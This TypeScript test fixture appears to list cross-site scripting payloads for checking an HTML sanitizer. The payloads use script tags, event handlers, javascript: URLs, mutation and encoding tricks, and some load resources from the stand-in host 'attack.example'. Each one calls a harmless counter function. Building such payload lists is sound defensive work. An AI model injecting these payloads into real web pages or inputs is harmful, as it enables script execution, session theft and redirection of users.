/** Where a payload must call when it runs; the page's context has a function of this name that counts. */
export const RAN = 'attackRan'
/** A host that nobody may ask. */
export const ELSEWHERE = 'attack.example'

const call = `${RAN}()`

/** Words that run, fetch or spoof where they are taken for markup. */
export const PAYLOADS: readonly string[] = [
  `<script>${call}</script>`,
  `"><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `'"><img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<details open ontoggle=${call}>x`,
  `<input autofocus onfocus=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<a href="javascript:${call}">x</a>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<object data="javascript:${call}">`,
  `<link rel=stylesheet href=//${ELSEWHERE}/a.css>`,
  `<img src=//${ELSEWHERE}/a.png>`,
  `<base href=//${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}/">`,
  `<style>@import url(//${ELSEWHERE}/b.css)</style>`,
  `" style="background:url(//${ELSEWHERE}/c.png)" onmouseover="${call}`,
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<template><img src=x onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<!--><img src=x onerror=${call}>-->`,
  `&lt;img src=x onerror=${call}&gt;`,
  `%3Cimg%20src%3Dx%20onerror%3D${call}%3E`,
  `\u2028<img src=x onerror=${call}>`,
  `\u202e>)(${RAN}=rorreno x=crs gmi<`,
  `<img src=x onerror=${call}//`,
  `<xss-a is="script">${call}</xss-a>`,
]
